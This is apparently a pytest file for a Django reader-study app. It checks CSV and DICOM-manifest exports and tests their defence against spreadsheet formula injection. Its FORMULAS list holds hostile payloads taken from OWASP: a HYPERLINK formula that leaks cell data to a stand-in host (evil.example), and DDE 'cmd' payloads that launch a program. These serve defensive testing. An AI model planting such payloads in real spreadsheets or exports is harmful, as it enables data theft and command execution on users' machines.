import csv
import io
import zipfile
from datetime import datetime

from django.core.management import call_command

from turingtest.results.exports import (
    IMAGE_COLUMNS,
    JUDGMENT_COLUMNS,
    ORDER_COLUMNS,
    READER_COLUMNS,
)
from turingtest.safe_csv import csv_cell
from turingtest.studies.models import Judgment, ReadingSession


def _read_csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_results_zip_matches_answers_and_command(
    reader_api, study, staff_client, tmp_path
):
    reader_api.answer_all()
    response = staff_client.get(f"/staff/studies/{study.slug}/results.zip")
    assert response.status_code == 200
    assert (
        response["Content-Disposition"]
        == f'attachment; filename="{study.slug}-results.zip"'
    )
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    names = {n.split("/", 1)[1] for n in archive.namelist()}
    assert {"judgments.csv", "readers.csv", "images.csv", "orders.csv"} <= names

    call_command(
        "export_results",
        study.slug,
        "--out",
        str(tmp_path / "out"),
        stdout=io.StringIO(),
    )
    for name in ("judgments.csv", "readers.csv", "images.csv", "orders.csv"):
        assert (
            archive.read(f"{study.slug}/{name}")
            == (tmp_path / "out" / name).read_bytes()
        )

    judgments = _read_csv(archive.read(f"{study.slug}/judgments.csv").decode())
    assert list(judgments[0]) == JUDGMENT_COLUMNS
    assert (
        len(judgments)
        == Judgment.objects.filter(session__phase__isnull=False).count()
        == 20
    )
    stored = {
        (j.session.phase.kind, j.position + 1): j
        for j in Judgment.objects.filter(session__phase__isnull=False).select_related(
            "case__image", "session__phase"
        )
    }
    for row in judgments:
        j = stored[(row["phase"], int(row["position"]))]
        # A token may start with "-": it then carries the formula quote.
        assert row["image"] == csv_cell(j.case.token)
        assert row["truth"] == j.case.image.source
        assert int(row["reference_kl"]) == j.case.image.kl_grade
        assert row["case"] == str(j.case.number)
        assert row["revision"] == "0"
        assert datetime.fromisoformat(row["answered_at"]).tzinfo is not None
        assert row["answered_at"].endswith("Z")
        if row["phase"] == "grading":
            assert (row["kl_grade"], row["answer"], row["confidence"]) == ("1", "", "")
            assert row["correct"] == str(j.case.image.kl_grade == 1).lower()
        else:
            assert (row["answer"], row["confidence"], row["kl_grade"]) == (
                "real",
                "2",
                "",
            )
            assert row["correct"] == str(j.case.image.source == "real").lower()
        assert not row["reader"].isdigit()

    readers = _read_csv(archive.read(f"{study.slug}/readers.csv").decode())
    assert (
        list(readers[0]) == READER_COLUMNS
        and len(readers) == 1
        and readers[0]["completed_at"]
    )
    images = _read_csv(archive.read(f"{study.slug}/images.csv").decode())
    assert list(images[0]) == IMAGE_COLUMNS and len(images) == 12
    orders = _read_csv(archive.read(f"{study.slug}/orders.csv").decode())
    assert list(orders[0]) == ORDER_COLUMNS
    session = ReadingSession.objects.get(phase__index=1)
    numbers = dict(study.cases.values_list("id", "number"))
    assert [int(r["case"]) for r in orders if r["phase"] == "detection"] == [
        numbers[i] for i in session.order
    ]


def test_revisions_are_exported_as_extra_rows(make_study, make_reader, tmp_path):
    from turingtest.studies import services

    study = make_study(slug="edits", edit_policy="until_phase_end", practice=0)
    enrollment = services.enrollment_consent(enrollment=make_reader(study))
    session = services.reading_session_start(
        enrollment=enrollment, phase=study.phases.get(index=0)
    )
    services.judgment_record(session=session, position=0, kl_grade=1)
    services.judgment_revise(session=session, position=0, kl_grade=3)
    call_command(
        "export_results", study.slug, "--out", str(tmp_path), stdout=io.StringIO()
    )
    rows = _read_csv((tmp_path / "judgments.csv").read_text())
    assert [(r["position"], r["kl_grade"], r["revision"]) for r in rows] == [
        ("1", "1", "0"),
        ("1", "3", "1"),
    ]


# Text a reader or an admin typed, as a spreadsheet would run it (OWASP's CSV
# injection list): every one must arrive as text.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _formula_like(cell: str) -> bool:
    if not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False  # a negative number is a number, not a formula


def test_no_exported_csv_cell_runs_as_a_formula(
    study, make_reader, staff_client, tmp_path, make_image
):
    from turingtest.generation.models import Generator
    from turingtest.imaging.models import Image
    from turingtest.studies.models import Case

    for n, formula in enumerate(FORMULAS):
        make_reader(study, subspecialty=formula, email=f"f{n}@example.org")
    # A file name from an import lands in the images' origin; a case token
    # (the exports' image column) is URL-safe base64 and may start with "-".
    first = study.cases.order_by("number").first()
    Image.objects.filter(pk=first.image_id).update(origin=FORMULAS[0])
    Case.objects.filter(pk=first.pk).update(token="-A1-A2" + "x" * 16)

    response = staff_client.get(f"/staff/studies/{study.slug}/results.zip")
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    readers = _read_csv(archive.read(f"{study.slug}/readers.csv").decode())
    assert sorted(r["subspecialty"] for r in readers if r["subspecialty"]) == sorted(
        "'" + f.replace("\r", "\n") for f in FORMULAS
    )
    images = _read_csv(archive.read(f"{study.slug}/images.csv").decode())
    assert "'" + FORMULAS[0] in {r["origin"] for r in images}
    assert "'-A1-A2" + "x" * 16 in {r["image"] for r in images}
    checked = 0
    for name in archive.namelist():
        if not name.endswith(".csv"):
            continue
        text = archive.read(name).decode()
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not _formula_like(cell), (name, cell)
                checked += 1
    assert checked > 100

    # The command-line export writes the same neutralised cells.
    call_command(
        "export_results",
        study.slug,
        "--out",
        str(tmp_path / "out"),
        stdout=io.StringIO(),
    )
    on_disk = _read_csv((tmp_path / "out" / "readers.csv").read_text())
    assert {r["subspecialty"] for r in on_disk} == {r["subspecialty"] for r in readers}

    # And so does the DICOM export's manifest, whose generator names are typed
    # by an admin (a slug may start with '-').
    generator = Generator.objects.create(
        name="-A1-A2", checkpoint="x.pt", sha256="0" * 64
    )
    make_image("synthetic", 2, generator=generator, seed=5)
    out = tmp_path / "dicom"
    call_command(
        "export_dicom",
        "--source",
        "synthetic",
        f"--generator={generator.name}",
        "--out",
        str(out),
        stdout=io.StringIO(),
    )
    (row,) = _read_csv((out / "manifest.csv").read_text())
    assert row["generator"] == "'-A1-A2"
